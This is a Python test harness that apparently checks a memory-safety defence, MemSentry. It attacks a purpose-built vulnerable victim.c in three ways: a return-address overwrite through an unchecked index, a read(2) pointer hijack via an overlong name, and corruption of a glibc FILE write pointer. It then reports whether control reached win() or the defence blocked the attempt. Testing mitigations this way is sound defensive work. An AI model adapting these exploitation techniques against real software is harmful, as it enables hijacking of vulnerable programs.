#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
"""Attacks victim.c over a pipe and says how it ended.

usage: attack.py [--symbolizer=PROGRAM] [--show-report] KIND VICTIM [ARGUMENT...]

KIND is one of
  none   no attack: the server must answer and say goodbye
  store  a plain store through an unchecked index replaces session()'s return address
  read   read(2) into a pointer that an overlong name replaced does
  file   stock libc does, through the write pointer of a FILE that the attacker changed

Prints "OUTCOME: detail", or what the victim wrote to stderr, symbolized. Outcomes:
  succeeded  control reached win(): the token came back
  blocked    the process died by the right signal with the exact report, which names the region
             and the module, and, through PROGRAM, the function of the victim
  served     the session ended in the ordinary way
  failed     anything else, a plain crash among them
"""
import os
import re
import secrets
import signal
import struct
import subprocess
import sys

TIMEOUT = 20
# Offsets in glibc's struct _IO_FILE on x86-64.
FILE_WRITE_PTR = 40
FILE_WRITE_END = 48

# How each attack ends when it is blocked: signal and first line of the report.
BLOCKED = {
    "store": (signal.SIGSEGV,
              '==%d==ERROR: MemSentry: blocked write of 8 bytes at 0x%x '
              '(safe region "safestack", thread 0)'),
    "read": (signal.SIGABRT,
             '==%d==ERROR: MemSentry: blocked call of read with 0x%x '
             '(safe region "safestack", thread 0)'),
}


class Gone(Exception):
    """The victim closed the connection."""


class Victim:
    def __init__(self, command):
        self.token = "token-" + secrets.token_hex(8)
        environment = dict(os.environ, VICTIM_TOKEN=self.token)
        self.process = subprocess.Popen(command, env=environment, stdin=subprocess.PIPE,
                                        stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        # win(), return slot, table, FILE: once the victim has leaked them.
        self.addresses = None
        signal.alarm(TIMEOUT)

    def request(self, opcode, first=0, second=0, data=b"", answer=0):
        """Sends one request and returns `answer` bytes."""
        message = struct.pack("<QQQ", ord(opcode), first, second % 2**64) + data
        try:
            self.process.stdin.write(message)
            self.process.stdin.flush()
        except BrokenPipeError:
            raise Gone from None
        got = self.process.stdout.read(answer)
        if len(got) != answer:
            raise Gone
        return got

    def leak(self):
        return struct.unpack("<QQQQ", self.request("I", answer=32))

    def store(self, table, address, value):
        # The index is 64 bits wide and wraps: every aligned address is in reach.
        index = ((address - table) % 2**64) // 8
        self.request("S", index, value, answer=1)

    def finish(self):
        """Lets the session return, and collects all that is left."""
        try:
            self.request("Q")
        except Gone:
            pass
        return self.process.communicate()


def attack(victim, kind):
    win, slot, table, log = victim.addresses = victim.leak()
    if kind == "store":
        victim.store(table, slot, win)
    elif kind == "read":
        name = b"A" * 32 + struct.pack("<Q", slot)
        victim.request("N", len(name), data=name, answer=1)
        victim.request("U", 8, data=struct.pack("<Q", win), answer=1)
    elif kind == "file":
        # End first: each store alone must leave an object that nothing uses meanwhile.
        victim.store(table, log + FILE_WRITE_END, slot + 8)
        victim.store(table, log + FILE_WRITE_PTR, slot)
        victim.request("L", 8, data=struct.pack("<Q", win), answer=1)


def symbolize(symbolizer, errors):
    return subprocess.run([symbolizer], input=errors, stdout=subprocess.PIPE, text=True,
                          check=True).stdout


def why_not_blocked(kind, victim, errors, symbolizer):
    """None when this is how a blocked attack has to look, else what is wrong."""
    number, first_line = BLOCKED.get(kind, (None, None))
    if number is None or victim.addresses is None:
        return "no report was due"
    if victim.process.returncode != -number:
        return "expected " + number.name
    first_line = first_line % (victim.process.pid, victim.addresses[1])
    lines = errors.splitlines()
    if first_line not in lines:
        return "expected the report '%s'" % first_line
    frame = re.compile(r"    #0 0x[0-9a-f]+ \(/.*%s\+0x[0-9a-f]+\)"
                       % re.escape(os.path.basename(victim.process.args[0])))
    if not any(frame.match(line) for line in lines):
        return "expected frame #0 in the victim, with module and offset"
    if symbolizer:
        try:
            resolved = symbolize(symbolizer, errors)
        except (OSError, subprocess.CalledProcessError) as error:
            return "the symbolizer: %s" % error
        if not re.search(r"^    #0 0x[0-9a-f]+ in session .*victim\.c:\d+", resolved,
                         re.MULTILINE):
            return "expected the symbolized report to name session() in victim.c"
    return None


def main():
    arguments = sys.argv[1:]
    symbolizer, show_report = None, False
    while arguments and arguments[0].startswith("--"):
        option, _, value = arguments.pop(0).partition("=")
        if option == "--symbolizer" and value:
            symbolizer = value
        elif option == "--show-report" and not value:
            show_report = True
        else:
            arguments = []
    if len(arguments) < 2 or arguments[0] not in ("none", "store", "read", "file"):
        print(__doc__, file=sys.stderr)
        return 2

    kind = arguments[0]
    victim = Victim(arguments[1:])
    completed = False
    try:
        attack(victim, kind)
        completed = True
    except Gone:
        pass
    output, errors = victim.finish()
    errors = errors.decode(errors="replace")
    status = victim.process.returncode
    ended = signal.Signals(-status).name if status < 0 else "exit status %d" % status

    if show_report:
        print(symbolize(symbolizer, errors) if symbolizer else errors, end="")
        return 0
    if victim.token.encode() in output:
        outcome, detail = "succeeded", "win() was reached"
    elif completed and output == b"bye" and status == 0:
        outcome, detail = "served", ended
    else:
        wrong = why_not_blocked(kind, victim, errors, symbolizer)
        outcome = "failed" if wrong else "blocked"
        detail = "%s; %s; stderr:\n%s" % (ended, wrong, errors) if wrong else ended
    print("%s: %s" % (outcome, detail))
    return 0


sys.exit(main())
